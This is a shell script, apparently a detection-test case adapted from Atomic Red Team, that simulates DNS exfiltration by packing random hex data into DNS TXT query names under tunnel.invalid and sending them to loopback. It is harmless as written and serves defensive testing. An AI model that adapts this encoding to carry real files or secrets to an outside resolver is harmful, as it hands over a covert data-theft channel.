#!/bin/sh
# case: T1048.003-dns-exfil
# technique: Data put into DNS names
# source: redcanaryco/atomic-red-team T1048.003-8 (DNS)
# needs: python3
# expect: net dns
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need python3
python3 -c 'import socket,os,struct
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for i in range(5):
    l=os.urandom(30).hex().encode();q=struct.pack(">6H",i,256,1,0,0,0)+bytes([len(l)])+l+b"\x06tunnel\x07invalid\0\0\x10\0\1"
    try: s.sendto(q,("127.0.0.1",53))
    except OSError: pass'
exit 0
